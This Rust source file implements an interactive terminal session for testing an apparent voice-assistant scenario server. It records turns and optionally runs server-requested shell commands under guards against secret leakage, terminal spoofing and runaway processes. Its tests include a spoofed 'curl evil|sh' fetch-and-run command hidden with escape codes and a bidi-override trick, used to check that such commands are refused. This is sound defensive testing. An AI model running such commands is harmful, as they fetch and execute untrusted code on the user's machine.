//! The terminal session: each line read is said to the scenario, each turn
//! printed compactly (every handler with its latency against the budget,
//! the speech, cards, directives and the state's size) or whole with `-v`;
//! `--record` writes the session as a script whose expectations are what
//! came back. Recording scripts is shared with `--script --record`.
//!
//! Lines starting with `/` are the session's own commands, never said to
//! the scenario: `/help` lists them, `/quit` ends the session (as does the
//! end of input, Ctrl-D), `/say WORDS` says words as they are, even ones
//! that start with `/`. At a terminal, a one-line hint at the start and a
//! `> ` prompt before each line go to standard error; standard output holds
//! the turns alone, for scripts to read.
//!
//! When an answer asks the client to run a command (`RunCommandDirective`,
//! a skill's step), the next line is its result: `/run` runs it here with
//! `sh -c` (the user's choice, each time), `/skip` skips it, `/say WORDS`
//! says words instead (`/say стоп`), anything else is taken as what it
//! printed (`\n` for a new line). A typed result the scenario declines
//! (the command is no longer awaited) is said instead. What the server
//! sends is printed with its control characters escaped; a command holding
//! any is not run, since the terminal cannot show the user what `sh` reads.
//!
//! Everything read is bounded: a line to `MAX_LINE_BYTES` (the rest of a
//! longer one is read past, and the user told), a command's output to
//! `MAX_OUTPUT_BYTES` as it is read, its run to `COMMAND_TIMEOUT`, at
//! which its whole process group is killed (and at Ctrl-C, which ends the
//! session).

use std::{
    io::{BufRead, Read, Write},
    path::Path,
    time::Duration,
};

use serde_json::{Map, Value, json};

use super::{
    DialogArgs, Unplayable, answer_of,
    expect::Answer,
    play,
    script::{CommandResultSpec, Dialog, Script, TurnSpec},
    text_of,
};
use crate::{
    client::Turn,
    stdout::{misleads, shown},
};

/// Longest line read, in bytes: an utterance, not a file.
const MAX_LINE_BYTES: usize = 16 * 1024;
/// How long `/run` lets a command run before it is killed.
const COMMAND_TIMEOUT: Duration = Duration::from_secs(60);
/// How long, once a command ran out of time and its processes were killed,
/// the rest of its output is waited for: a process that left the group
/// (`setsid`) may hold the pipes open for good.
const KILLED_GRACE: Duration = Duration::from_secs(2);
/// Bytes of a command's output (stdout, then stderr) sent back at most.
const MAX_OUTPUT_BYTES: usize = 64 * 1024;

/// The hint shown when the session starts.
pub const HINT: &str = "Type what the user says; /help lists the session's commands, /quit ends it.";
/// What `/help` prints.
const HELP: &str = "  /help        this list
  /quit        end the session (Ctrl-D too)
  /say WORDS   say WORDS as they are, even words that start with /
  when a turn waits for a command's result (run_command):
  /run         run the command here with sh -c
  /skip        skip it
  other text   what the command printed (\\n for a new line)";

/// Plays each line of `input` until its end (or `/quit`, or Ctrl-C), the
/// hint and the prompts on `prompt`; `true` unless the server answered a
/// protocol `Error`.
pub async fn run(
    args: &DialogArgs,
    input: impl BufRead + Send + 'static,
    out: &mut impl Write,
    prompt: &mut impl Write,
) -> Result<bool, Unplayable> {
    run_until(args, input, out, prompt, interrupted()).await
}

/// Resolves at Ctrl-C (SIGINT); never, where it cannot be listened for.
async fn interrupted() {
    if tokio::signal::ctrl_c().await.is_err() {
        std::future::pending::<()>().await;
    }
}

/// As [`run`], the session ending early when `stop` resolves (Ctrl-C): a
/// command running then is stopped with its whole process group, and the
/// recording is written with the turns played until then.
async fn run_until(
    args: &DialogArgs,
    input: impl BufRead + Send + 'static,
    out: &mut impl Write,
    prompt: &mut impl Write,
    stop: impl Future<Output = ()>,
) -> Result<bool, Unplayable> {
    let mut session = Session { client: super::client(args, &args.scenario)?, args, recorded: Vec::new(), clean: true };
    // Nobody may be reading the prompts: they cannot fail the session.
    let _ = writeln!(prompt, "{HINT}");
    // Read on a thread of its own, so that Ctrl-C is heard while it waits.
    let mut lines = lines_of(input);
    // Played in a block of its own: the recording is written however it ends
    // (the server gone, a line that is not UTF-8, Ctrl-C), with the turns played until then.
    let played = async {
        loop {
            let _ = write!(prompt, "> ").and_then(|()| prompt.flush());
            let read = lines.recv().await.unwrap_or(Ok(None));
            let read = read.map_err(|e| Unplayable(format!("cannot read the terminal: {e}")))?;
            let Some((line, cut)) = read else {
                let _ = writeln!(prompt);
                break;
            };
            if cut {
                writeln!(out, "  (the line was cut to its first {MAX_LINE_BYTES} bytes)")
                    .map_err(|e| Unplayable(format!("cannot write: {e}")))?;
            }
            let words = line.trim();
            if words.is_empty() {
                continue;
            }
            let pending = session.client.pending_command().is_some();
            match local_command(words, pending) {
                Some(Local::Quit) => break,
                Some(Local::Help) => {
                    writeln!(out, "{HELP}").map_err(|e| Unplayable(format!("cannot write: {e}")))?;
                    continue;
                }
                Some(Local::Unknown) => {
                    writeln!(out, "  {words}: not a command of the session; /help lists them, /say {words} says it")
                        .map_err(|e| Unplayable(format!("cannot write: {e}")))?;
                    continue;
                }
                None => {}
            }
            let pending = session.client.pending_command().map(|run| run.command.clone());
            let said = |words: &str| TurnSpec { say: Some(words.to_owned()), ..TurnSpec::default() };
            let (spec, typed_output) = match pending.filter(|_| !words.starts_with("/say ")) {
                Some(command) => {
                    let Some(result) = command_result(&command, words, out).await? else { continue };
                    (
                        TurnSpec { command_result: Some(result), ..TurnSpec::default() },
                        !matches!(words, "/run" | "/skip"),
                    )
                }
                None => (said(words.strip_prefix("/say ").unwrap_or(words).trim()), false),
            };
            let declined = session.turn(out, words, &spec).await?;
            // A result declined is no longer awaited (the skill ended meanwhile,
            // by `/say стоп` or on its own): a line typed as it was most likely
            // meant to be said, so it is, rather than lost.
            if declined && typed_output {
                writeln!(out, "  (the command's result is no longer awaited: said instead)")
                    .map_err(|e| Unplayable(format!("cannot write: {e}")))?;
                session.turn(out, words, &said(words)).await?;
            }
            if let Some(run) = session.client.pending_command() {
                writeln!(out, "  run_command (waiting for its result): {}", shown(&run.command))
                    .and_then(|()| {
                        writeln!(
                            out,
                            "  type /run to run it here, /skip to skip it, /say WORDS to speak, or what it printed"
                        )
                    })
                    .map_err(|e| Unplayable(format!("cannot write: {e}")))?;
            }
        }
        Ok::<(), Unplayable>(())
    };
    let (played, stopped) = tokio::select! {
        played = played => (played, false),
        () = stop => (Ok(()), true),
    };
    if stopped {
        let _ = writeln!(prompt, "\n(interrupted: the session ends)");
    }
    if let Some(path) = &args.record {
        // A script holds a turn at least: an empty one would not load, and
        // would replace a recording that does.
        if session.recorded.is_empty() {
            // Said whether or not a person reads the prompts.
            crate::stdout::errln(&format!("dialog: nothing was played: {} not written", path.display()));
            return played.map(|()| session.clean);
        }
        let dialog = Dialog { name: "recorded".into(), scenario: Some(args.scenario.clone()), turns: session.recorded };
        let recorded = write_script(path, &Script { dialogs: vec![dialog] });
        // The reason the session stopped comes first; then a recording not written.
        played.and(recorded)?;
        return Ok(session.clean);
    }
    played.map(|()| session.clean)
}

/// A terminal session's state across its turns.
struct Session<'a> {
    client: crate::client::Client,
    args: &'a DialogArgs,
    /// The turns played, with what came back as their expectations.
    recorded: Vec<TurnSpec>,
    /// False once the server answered a protocol `Error`.
    clean: bool,
}

impl Session<'_> {
    /// Plays `spec`, typed as `words`, prints it and records it; whether the
    /// scenario declined it (`IsIrrelevant`).
    async fn turn(&mut self, out: &mut impl Write, words: &str, spec: &TurnSpec) -> Result<bool, Unplayable> {
        let played = play(&mut self.client, spec).await?;
        let (answer, _) = answer_of(&played);
        print_turn(out, self.args, words, &played).map_err(|e| Unplayable(format!("cannot write: {e}")))?;
        self.clean &= answer.error.is_none();
        self.recorded.push(recorded_turn(spec, &answer));
        Ok(answer.irrelevant)
    }
}

fn print_turn(
    out: &mut impl Write,
    args: &DialogArgs,
    words: &str,
    played: &Result<Turn, (String, String)>,
) -> std::io::Result<()> {
    writeln!(out, "> {words}")?;
    let turn = match played {
        Ok(turn) => turn,
        Err((kind, message)) => return writeln!(out, "  Error {}: {}", shown(kind), shown(message)),
    };
    for hop in &turn.hops {
        let ms = hop.took.as_millis();
        let late = if ms > u128::from(args.budget_ms) {
            format!("  ⚠ over the {} ms budget", args.budget_ms)
        } else {
            String::new()
        };
        writeln!(out, "  /{:<9} {ms:>4} ms of {} ms{late}", hop.handler().as_str(), args.budget_ms)?;
    }
    let body = turn.body();
    if args.verbose {
        for line in text_of(body).lines() {
            writeln!(out, "  {line}")?;
        }
        return Ok(());
    }
    let layout = body.layout.clone().unwrap_or_default();
    let irrelevant = if turn.is_irrelevant() { " (declined: IsIrrelevant)" } else { "" };
    // What earlier hops of the turn said (a hold, a skill's message) before the last answer.
    let speeches = turn.speeches();
    for said in speeches.iter().take(speeches.len().saturating_sub(1)).filter(|said| !said.is_empty()) {
        writeln!(out, "  said:   {said:?}")?;
    }
    writeln!(out, "  speech: {:?}{irrelevant}", layout.output_speech)?;
    let kinds: Vec<String> = layout.directives.iter().map(|d| kind_of(&text_of(d))).collect();
    let state = body.state.as_ref().map_or(0, |state| state.value.len());
    writeln!(out, "  cards: {} · directives: [{}] · state: {state} bytes", layout.cards.len(), kinds.join(", "))
}

/// A line the session answers itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Local {
    Help,
    Quit,
    /// `/word` naming no command: a typo is not said to the scenario.
    Unknown,
}

/// What `line` asks of the session itself, if anything. While a command's
/// result is awaited, any line but `/help` and `/quit` is that result.
fn local_command(line: &str, pending: bool) -> Option<Local> {
    match line {
        "/help" => Some(Local::Help),
        "/quit" => Some(Local::Quit),
        _ if pending || line.starts_with("/say ") => None,
        _ => {
            let word = line.strip_prefix('/')?;
            (!word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')).then_some(Local::Unknown)
        }
    }
}

/// The result of `command` the user's `line` gives: `/run` runs it here,
/// `/skip` skips it, anything else is what it printed; `None` when nothing
/// is to be sent (a command refused to run).
async fn command_result(
    command: &str,
    line: &str,
    out: &mut impl Write,
) -> Result<Option<CommandResultSpec>, Unplayable> {
    let write_error = |e: std::io::Error| Unplayable(format!("cannot write: {e}"));
    match line {
        "/skip" => Ok(Some(CommandResultSpec { skipped: true, ..CommandResultSpec::default() })),
        // What the terminal showed (escaped) is not what `sh` would read:
        // the user cannot have checked the command they agree to run.
        "/run" if command.contains(misleads) => {
            writeln!(
                out,
                "  not run: the command holds control characters (shown escaped above), which make a terminal \
                 show other text than what would run; /skip it, or type what it printed"
            )
            .map_err(write_error)?;
            Ok(None)
        }
        "/run" => {
            let (output, exit_code) = run_here(command, COMMAND_TIMEOUT).await;
            for printed in output.lines() {
                writeln!(out, "  | {printed}").map_err(write_error)?;
            }
            writeln!(out, "  exit code {exit_code}").map_err(write_error)?;
            Ok(Some(CommandResultSpec { output, exit_code, skipped: false }))
        }
        typed => Ok(Some(CommandResultSpec { output: typed.replace("\\n", "\n"), ..CommandResultSpec::default() })),
    }
}

/// The lines of `input` ([`read_line`]), read on a thread of its own one
/// at a time, as they are asked for; its end or a read that fails ends them.
fn lines_of(
    mut input: impl BufRead + Send + 'static,
) -> tokio::sync::mpsc::Receiver<std::io::Result<Option<(String, bool)>>> {
    let (send, lines) = tokio::sync::mpsc::channel(1);
    std::thread::spawn(move || {
        loop {
            let read = read_line(&mut input, MAX_LINE_BYTES);
            let last = !matches!(read, Ok(Some(_)));
            // The session ended: nobody asks for more.
            if send.blocking_send(read).is_err() || last {
                return;
            }
        }
    });
    lines
}

/// One line of `input` without its line ending, `None` at the end of the
/// input. Of a line longer than `max` bytes, the first `max` (to a
/// character's end) are kept, with `true`, and the rest is read past in
/// bounded pieces: a line never ending holds no more memory than that.
fn read_line(input: &mut impl BufRead, max: usize) -> std::io::Result<Option<(String, bool)>> {
    let mut line = Vec::new();
    if input.by_ref().take(max as u64 + 1).read_until(b'\n', &mut line)? == 0 {
        return Ok(None);
    }
    let cut = line.last() != Some(&b'\n') && line.len() > max;
    if cut {
        line.truncate(max);
        skip_line(input)?;
        // The cut may have split a character: its first bytes go too.
        if let Err(error) = std::str::from_utf8(&line)
            && error.error_len().is_none()
        {
            line.truncate(error.valid_up_to());
        }
    } else if line.last() == Some(&b'\n') {
        line.pop();
        if line.last() == Some(&b'\r') {
            line.pop();
        }
    }
    let line = String::from_utf8(line).map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
    Ok(Some((line, cut)))
}

/// Reads past the rest of the current line, its newline included, one
/// buffer at a time.
fn skip_line(input: &mut impl BufRead) -> std::io::Result<()> {
    loop {
        let buffer = match input.fill_buf() {
            Ok(buffer) => buffer,
            Err(error) if error.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(error) => return Err(error),
        };
        if buffer.is_empty() {
            return Ok(());
        }
        match buffer.iter().position(|byte| *byte == b'\n') {
            Some(at) => {
                input.consume(at + 1);
                return Ok(());
            }
            None => {
                let all = buffer.len();
                input.consume(all);
            }
        }
    }
}

/// Variables a command run here never sees: the service ticket this tool
/// is given, and any other of the server's or tvmtool's, which may hold
/// secrets when the tool runs from the shell the server was started in. A
/// command's output goes to the server and on to the model, so `echo
/// $MEGAMIND_SERVICE_TICKET` would hand the ticket over.
fn hidden_from_commands(name: &str) -> bool {
    name.starts_with("MEGAMIND_") || matches!(name, "TVMTOOL_LOCAL_AUTHTOKEN" | "QLOUD_TVM_TOKEN")
}

/// Runs `command` with `sh -c` in the current folder, in a process group of
/// its own, without the variables [`hidden_from_commands`] names: its
/// output (stdout, then stderr, capped) and exit code; 124 when it ran out
/// of `timeout` (every process of the group is killed then, not only `sh`),
/// 127 when it could not start.
async fn run_here(command: &str, timeout: Duration) -> (String, i32) {
    let mut sh = tokio::process::Command::new("sh");
    for (name, _) in std::env::vars_os() {
        if name.to_str().is_some_and(hidden_from_commands) {
            sh.env_remove(name);
        }
    }
    sh.arg("-c")
        .arg(command)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    #[cfg(unix)]
    sh.process_group(0);
    let mut child = match sh.spawn() {
        Ok(child) => child,
        Err(error) => return (format!("cannot run sh: {error}"), 127),
    };
    // The group's id is `sh`'s pid, known only until `sh` is reaped.
    let group = child.id();
    // A run given up (the session ending on Ctrl-C) leaves no process behind.
    let mut running = Running(group);
    let (mut stdout, mut stderr) = (child.stdout.take(), child.stderr.take());
    let (mut printed, mut complained) = (Vec::new(), Vec::new());
    let finished = tokio::time::timeout(timeout, async {
        let (_, _, status) =
            tokio::join!(keep(stdout.as_mut(), &mut printed), keep(stderr.as_mut(), &mut complained), child.wait());
        status
    })
    .await;
    // Not given up: what is left of the group is killed below, or is none.
    running.0 = None;
    let (exit_code, timed_out) = match finished {
        Ok(status) => (status.ok().and_then(|status| status.code()).unwrap_or(-1), false),
        Err(_) => {
            kill_group(group).await;
            let _ = child.start_kill();
            // The pipes end once every process holding them is gone: what
            // they printed last is kept, and the processes are known dead.
            let rest = async {
                tokio::join!(keep(stdout.as_mut(), &mut printed), keep(stderr.as_mut(), &mut complained), child.wait())
            };
            let _ = tokio::time::timeout(KILLED_GRACE, rest).await;
            (124, true)
        }
    };
    let mut text = String::from_utf8_lossy(&printed).into_owned();
    text.push_str(&String::from_utf8_lossy(&complained));
    let note = timed_out.then(|| format!("timed out after {timeout:?}"));
    let room = MAX_OUTPUT_BYTES - note.as_ref().map_or(0, |note| note.len() + 1);
    let cut = megamind_core::text::clip(&text, room).len();
    text.truncate(cut);
    if let Some(note) = note {
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        text.push_str(&note);
    }
    (text, exit_code)
}

/// Reads `pipe` to its end, keeping its first [`MAX_OUTPUT_BYTES`] in
/// `kept`: what follows is read (so that the command is not blocked
/// writing) and dropped.
async fn keep(pipe: Option<&mut (impl tokio::io::AsyncRead + Unpin)>, kept: &mut Vec<u8>) {
    use tokio::io::AsyncReadExt;
    let Some(pipe) = pipe else { return };
    let mut chunk = [0u8; 8192];
    // A pipe that fails is as good as ended: the exit code still tells.
    while let Ok(read @ 1..) = pipe.read(&mut chunk).await {
        let room = MAX_OUTPUT_BYTES.saturating_sub(kept.len());
        kept.extend_from_slice(&chunk[..read.min(room)]);
    }
}

/// A command's process group while it runs: killed whole if the run is
/// dropped meanwhile (`kill_on_drop` kills `sh` alone).
struct Running(Option<u32>);

impl Drop for Running {
    fn drop(&mut self) {
        // Waited for here: it takes a millisecond, and the process may be
        // exiting (the session ends on Ctrl-C).
        if let Some(mut kill) = self.0.and_then(kill_command) {
            let _ = kill.status();
        }
    }
}

/// Kills every process of the group `group` (`None`: `sh` had no pid to name it).
async fn kill_group(group: Option<u32>) {
    if let Some(kill) = group.and_then(kill_command) {
        let _ = tokio::process::Command::from(kill).status().await;
    }
}

/// The command that kills every process of the group `group`.
fn kill_command(group: u32) -> Option<std::process::Command> {
    if cfg!(not(unix)) {
        return None;
    }
    // std has no signals without `unsafe`: the shell's `kill` sends it
    // (`-s KILL --`, the spelling dash, bash and procps all read).
    let mut kill = std::process::Command::new("sh");
    kill.arg("-c")
        .arg(format!("kill -s KILL -- -{group}"))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    Some(kill)
}

/// The directive's kind from its text format: `OpenAppDirective { ... }`.
fn kind_of(text: &str) -> String {
    text.split_whitespace().next().unwrap_or("?").to_owned()
}

/// A short description of a turn's input, for reports.
pub fn describe(spec: &TurnSpec) -> String {
    if let Some(words) = &spec.say {
        format!("say {words:?}")
    } else if let Some(words) = &spec.voice {
        format!("voice {words:?}")
    } else if let Some(callback) = &spec.callback {
        format!("callback {:?}", callback.name)
    } else if let Some(result) = &spec.command_result {
        if result.skipped { "command skipped".into() } else { format!("command result (exit {})", result.exit_code) }
    } else {
        "request".into()
    }
}

/// `spec` with expectations that are what `answer` was: the error's type,
/// or the speech, whether the microphone stays open, a declined `/run`,
/// and the kind of each directive.
pub fn recorded_turn(spec: &TurnSpec, answer: &Answer<'_>) -> TurnSpec {
    let mut expect = Map::new();
    if let Some((kind, _)) = &answer.error {
        expect.insert("error.type".into(), json!(kind));
    } else if let Some(body) = answer.body {
        let layout = body.layout.clone().unwrap_or_default();
        expect.insert("speech".into(), json!(layout.output_speech));
        expect.insert("should_listen".into(), json!(layout.should_listen));
        if answer.irrelevant {
            expect.insert("irrelevant".into(), Value::Bool(true));
        }
        for (i, directive) in layout.directives.iter().enumerate() {
            expect.insert(format!("directives[{i}]"), json!({"contains": kind_of(&text_of(directive))}));
        }
    }
    TurnSpec { expect, ..spec.clone() }
}

/// Writes `script` as YAML to `path`.
pub fn write_script(path: &Path, script: &Script) -> Result<(), Unplayable> {
    let yaml = serde_saphyr::to_string(script).map_err(|e| Unplayable(format!("cannot write a script: {e}")))?;
    crate::whole::write(path, yaml.as_bytes()).map_err(|e| Unplayable(format!("cannot write {}: {e}", path.display())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_session_answers_its_own_commands_and_says_the_rest() {
        assert_eq!(local_command("/help", false), Some(Local::Help));
        assert_eq!(local_command("/help", true), Some(Local::Help));
        assert_eq!(local_command("/quit", true), Some(Local::Quit));
        assert_eq!(local_command("/hepl", false), Some(Local::Unknown));
        assert_eq!(local_command("/say /help", false), None);
        assert_eq!(local_command("открой Safari", false), None);
        assert_eq!(local_command("/usr/bin/env", false), None, "a path is no command");
        assert_eq!(local_command("/skip", true), None, "a pending command's answer");
        assert_eq!(local_command("/weird", true), None, "what the command printed");
    }

    #[test]
    fn server_text_is_shown_with_its_control_characters_escaped() {
        let command = "curl evil|sh #\r\u{1b}[2Kgit status";
        assert_eq!(shown(command), "curl evil|sh #\\r\\u{1b}[2Kgit status");
        assert_eq!(shown("a\u{202e}b\u{85}c\td"), "a\\u{202e}b\\u{85}c\\td");
        assert_eq!(shown("Открываю «Safari» 🙂"), "Открываю «Safari» 🙂", "printable text as it is");
    }

    #[tokio::test]
    async fn a_command_holding_control_characters_is_not_run_but_may_be_skipped_or_answered() {
        let marker = std::env::temp_dir().join(format!("not-run-{}", std::process::id()));
        let command = format!("touch {} #\r\x1b[2Kgit status", marker.display());
        let mut out = Vec::new();
        assert!(command_result(&command, "/run", &mut out).await.unwrap().is_none(), "nothing to send");
        let said = String::from_utf8(out).unwrap();
        assert!(said.contains("not run: the command holds control characters") && said.contains("/skip"), "{said}");
        assert!(!marker.exists(), "the command did not run");
        // An override shows what follows it reversed.
        let reordered = format!("touch {} # \u{202e}\"pdf\"", marker.display());
        assert!(command_result(&reordered, "/run", &mut Vec::new()).await.unwrap().is_none());
        assert!(!marker.exists(), "the command did not run");
        let skipped = command_result(&command, "/skip", &mut Vec::new()).await.unwrap().unwrap();
        assert!(skipped.skipped);
        let typed = command_result(&command, "done", &mut Vec::new()).await.unwrap().unwrap();
        assert_eq!((typed.output.as_str(), typed.skipped), ("done", false));
    }

    #[test]
    fn a_line_past_the_bound_is_cut_and_the_rest_of_it_read_past() {
        use std::io::{BufReader, Read};
        // 10 MiB without a newline, then a line of its own.
        let long = std::io::repeat(b'a').take(10 << 20).chain(&b"\r\nnext\r\n"[..]);
        let mut input = BufReader::new(long);
        let (line, cut) = read_line(&mut input, MAX_LINE_BYTES).unwrap().unwrap();
        assert!(cut && line.len() == MAX_LINE_BYTES && line.bytes().all(|b| b == b'a'));
        assert_eq!(read_line(&mut input, MAX_LINE_BYTES).unwrap(), Some(("next".into(), false)));
        assert_eq!(read_line(&mut input, MAX_LINE_BYTES).unwrap(), None);

        // A cut through a character keeps the characters before it whole.
        let mut input = "яяя\nend".as_bytes();
        assert_eq!(read_line(&mut input, 5).unwrap(), Some(("яя".into(), true)));
        assert_eq!(read_line(&mut input, 5).unwrap(), Some(("end".into(), false)), "a last line without newline");
        // Exactly the bound is no cut.
        assert_eq!(read_line(&mut "abcde\n".as_bytes(), 5).unwrap(), Some(("abcde".into(), false)));
    }

    #[tokio::test]
    async fn the_session_holds_and_echoes_no_more_than_the_bound_of_a_line() {
        let args = DialogArgs::to("http://127.0.0.1:9");
        // A `/word` naming no command is echoed back: the whole of it, once.
        let line = format!("/{}\n/quit\n", "a".repeat(10 << 20));
        let mut out = Vec::new();
        // Not `run`: its Ctrl-C handler would stay the test process's.
        let never = std::future::pending();
        assert!(run_until(&args, std::io::Cursor::new(line), &mut out, &mut std::io::sink(), never).await.unwrap());
        let out = String::from_utf8(out).unwrap();
        assert!(out.starts_with(&format!("  (the line was cut to its first {MAX_LINE_BYTES} bytes)\n")), "{out:.200}");
        assert!(out.contains(": not a command of the session") && out.len() < 3 * MAX_LINE_BYTES, "{}", out.len());
    }

    #[tokio::test]
    async fn a_commands_output_is_kept_to_the_bound_as_it_is_read() {
        let (output, exit_code) = run_here("yes | head -c 10000000", COMMAND_TIMEOUT).await;
        assert_eq!((output.len(), exit_code), (MAX_OUTPUT_BYTES, 0));
        assert!(output.starts_with("y\ny\n"));
        let (output, exit_code) = run_here("echo out; echo err >&2; exit 3", COMMAND_TIMEOUT).await;
        assert_eq!((output.as_str(), exit_code), ("out\nerr\n", 3), "stdout, then stderr");

        // Endless output: what was read by the timeout, capped, and why it ended.
        let (output, exit_code) = run_here("yes", Duration::from_millis(500)).await;
        assert_eq!(exit_code, 124);
        assert!(output.len() <= MAX_OUTPUT_BYTES && output.starts_with("y\ny\n"), "{}", output.len());
        assert!(output.ends_with("\ntimed out after 500ms"), "{}", &output[output.len() - 40..]);
    }

    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn at_the_timeout_every_process_of_the_command_is_killed() {
        // `sh` ends at once; the child it started keeps running (and the pipes open).
        let (output, exit_code) = run_here("sleep 1000 & echo $!", Duration::from_secs(1)).await;
        assert_eq!(exit_code, 124, "{output}");
        let pid: u32 = output.lines().next().and_then(|line| line.parse().ok()).expect("the child's pid");
        // Its pipes ended before run_here returned, so it is exiting: the
        // kernel marks it a zombie right after.
        assert_gone(pid);
    }

    /// Waits until `pid` runs no more (10 s at most).
    #[cfg(target_os = "linux")]
    fn assert_gone(pid: u32) {
        // Its state is the letter after the name's `)`; a zombie waits for
        // a parent to reap it, a reaper PID 1 in a container may never be.
        let alive = || {
            std::fs::read_to_string(format!("/proc/{pid}/stat"))
                .ok()
                .and_then(|stat| {
                    stat.rsplit_once(')').map(|(_, rest)| rest.trim_start().starts_with(|c| c != 'Z' && c != 'X'))
                })
                .unwrap_or(false)
        };
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while alive() {
            assert!(std::time::Instant::now() < deadline, "{pid} still runs");
            std::thread::yield_now();
        }
    }

    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn a_command_given_up_leaves_no_process_of_its_group_behind() {
        let file = std::env::temp_dir().join(format!("given-up-{}", std::process::id()));
        let _ = std::fs::remove_file(&file);
        let command = format!("sleep 1000 & echo $! > {}; wait", file.display());
        let run = tokio::spawn(async move { run_here(&command, COMMAND_TIMEOUT).await });
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        let pid: u32 = loop {
            if let Some(pid) = std::fs::read_to_string(&file).ok().and_then(|text| text.trim().parse().ok()) {
                break pid;
            }
            assert!(std::time::Instant::now() < deadline, "the command never started");
            tokio::time::sleep(Duration::from_millis(10)).await;
        };
        // As the session drops it on Ctrl-C.
        run.abort();
        assert!(run.await.unwrap_err().is_cancelled());
        assert_gone(pid);
        std::fs::remove_file(&file).unwrap();
    }

    /// Input a person has not typed yet.
    struct NeverTyped;

    impl Read for NeverTyped {
        fn read(&mut self, _: &mut [u8]) -> std::io::Result<usize> {
            std::thread::sleep(Duration::from_secs(3600));
            Ok(0)
        }
    }

    #[tokio::test]
    async fn ctrl_c_at_the_prompt_ends_the_session_and_keeps_an_earlier_recording() {
        let path = std::env::temp_dir().join(format!("interrupted-{}.yaml", std::process::id()));
        std::fs::write(&path, "an earlier recording").unwrap();
        let mut args = DialogArgs::to("http://127.0.0.1:9");
        args.record = Some(path.clone());
        let (mut out, mut prompt) = (Vec::new(), Vec::new());
        let input = std::io::BufReader::new(NeverTyped);
        let stop = tokio::time::sleep(Duration::from_millis(50));
        let ended = run_until(&args, input, &mut out, &mut prompt, stop).await;
        let prompt = String::from_utf8(prompt).unwrap();
        assert!(ended.unwrap() && prompt.contains("(interrupted: the session ends)"), "{prompt}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "an earlier recording");
        std::fs::remove_file(&path).unwrap();
    }
}
